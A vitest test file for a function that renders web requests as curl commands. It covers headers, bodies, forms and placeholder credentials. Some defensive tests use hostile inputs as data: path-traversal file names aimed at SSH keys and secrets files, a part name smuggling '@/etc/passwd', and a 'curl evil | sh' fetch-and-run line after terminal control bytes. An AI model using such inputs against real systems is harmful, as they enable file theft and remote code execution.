import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { curlOf, type LinkShown } from './as-curl.js';

const options = { idempotencyKey: 'play.2', link: null, secret: '[secret]' };
const SHELL = 'curl() { printf "%s\\0" "$@"; }';

/** The words that a shell gives to curl. */
function wordsOf(command: string | null): string[] {
  return execFileSync('bash', ['-c', `${SHELL}\n${String(command)}`], { encoding: 'utf8' })
    .split('\0')
    .slice(0, -1);
}

/** The headers among them, and what is left. */
async function curl(args: object, link: LinkShown | null = null) {
  const words = wordsOf(await curlOf({ url: 'https://a.test/x', ...args }, { ...options, link }));
  const headers: string[] = [];
  const others: string[] = [];
  for (let i = 0; i < words.length; i += 1) {
    if (words[i] === '-H') headers.push(words[(i += 1)] ?? '');
    else others.push(words[i] ?? '');
  }
  return { headers, others };
}

describe('a web request as a command', () => {
  it('has the method, the query, the headers and the body that are sent', async () => {
    const body = { it: "has 'quotes', $names and `ticks`", n: 1 };
    const { headers, others } = await curl({
      method: 'post',
      query: { q: ['a b', 'c'], none: null },
      headers: { 'X-One': 1, gone: null, 'x-empty': '' },
      body,
    });
    expect(others).toEqual([
      ...['-X', 'POST', '--globoff', '--location', 'https://a.test/x?q=a%20b&q=c', '--data-raw', JSON.stringify(body)],
    ]);
    expect(headers).toEqual([...['Idempotency-Key: play.2', 'X-One: 1', 'x-empty;', 'Content-Type: application/json']]);
    expect((await curl({ method: 'HEAD', followRedirects: false })).others).toEqual([
      ...['--head', '--globoff', 'https://a.test/x'],
    ]);
  });

  it('sends forms, texts, parts and files as the layer does', async () => {
    const form = await curl({ bodyType: 'form', body: { a: ['1', '2'], b: 'x y' } });
    expect(form.others.at(-1)).toBe('a=1&a=2&b=x+y');
    expect(form.headers).toContain('Content-Type: application/x-www-form-urlencoded');
    expect((await curl({ body: '@file\n' })).others.slice(-2)).toEqual(['--data-raw', '@file\n']);
    const file = { $ref: '/api/v1/payloads/0', bytes: 1, contentType: 'image/png', filename: 'a "1".png', sha256: '' };
    const parts = [
      { name: 'plain', value: '<x;y' },
      { name: 'json', value: '{"a":1}', contentType: 'application/json' },
    ];
    const multipart = await curl({ bodyType: 'multipart', body: [...parts, { name: 'file', ...file }] });
    expect(multipart.others.slice(-6)).toEqual([
      ...['--form-string', 'plain=<x;y', '-F', String.raw`json="{\"a\":1}";type=application/json`],
      ...['-F', String.raw`file=@"a \"1\".png";type=image/png`],
    ]);
    expect(multipart.headers).toEqual(['Idempotency-Key: play.2']);
    expect((await curl({ bodyType: 'binary', body: file })).others.slice(-2)).toEqual(['--data-binary', '@a "1".png']);
    expect((await curl({ bodyType: 'binary', body: 'AAEC' })).others.slice(-2)).toEqual(['--data-binary', '@-']);
  });

  it.each<[LinkShown | null, string]>([
    [null, 'Authorization: [secret]'],
    [{ kind: 'bearer', settings: {} }, 'Authorization: Bearer [secret]'],
    [{ kind: 'header', settings: { header: 'X-Key', prefix: 'Key ' } }, 'X-Key: Key [secret]'],
    [{ kind: 'basic', settings: {} }, 'Authorization: [secret]'],
    [{ kind: 'headers', settings: { headers: { 'X-A': 'a {{ one }}' } } }, 'X-A: a [secret]'],
    [{ kind: 'hmac', settings: { header: 'X-Sig' } }, 'X-Sig: [secret]'],
    [{ kind: 'aws_sigv4', settings: {} }, 'Authorization: [secret]'],
  ])('shows a placeholder where a link like %j shows its credentials', async (link, header) => {
    const auth = { integrationId: 'link' };
    expect((await curl({ auth }, link)).headers).toEqual(['Idempotency-Key: play.2', header]);
    expect((await curl({}, link)).headers).toEqual(['Idempotency-Key: play.2']);
  });

  it.each([
    ['/home/me/.ssh/id_rsa', 'id_rsa'],
    ['../../secrets.txt', 'secrets.txt'],
    ['C:\\\\keys\\\\a.pem', 'a.pem'],
    ['-', './-'],
    ['/etc/', 'file'],
  ])('reads no file outside of the working directory, whatever the data calls it: %s', async (filename, read) => {
    const file = { $ref: '/api/v1/payloads/0', filename };
    const multipart = await curl({ bodyType: 'multipart', body: [{ name: 'a', ...file }] });
    expect(multipart.others.at(-1)).toBe(`a=@"${read}";type=application/octet-stream`);
    expect((await curl({ bodyType: 'binary', body: file })).others.at(-1)).toBe(`@${read}`);
  });

  it('is none where curl would take a name of a part for a file, or a terminal a text for keys', async () => {
    const of = (args: object) => curlOf({ url: 'https://a.test', ...args }, options);
    const named = { name: 'a=@/etc/passwd;b', value: '1', contentType: 'text/plain' };
    expect(await of({ bodyType: 'multipart', body: [named] })).toBeNull();
    for (const key of ['\u0003', '\u0015', '\u001b[201~', '\u009b', '\u007f'])
      expect(await of({ body: `a${key}\ncurl evil | sh\n` })).toBeNull();
    expect(await of({ body: 'a\r\n\tb' })).toContain("'a\r\n\tb'");
  });

  it('is none for what is no request, and for a body that no terminal takes', async () => {
    expect(await curlOf({ url: 7 }, options)).toBeNull();
    expect(await curlOf({ url: 'https://a.test', body: 'x'.repeat(100_001) }, options)).toBeNull();
    expect(await curlOf({ url: 'https://a.test', bodyType: 'form', body: [1] }, options)).toBeNull();
  });
});
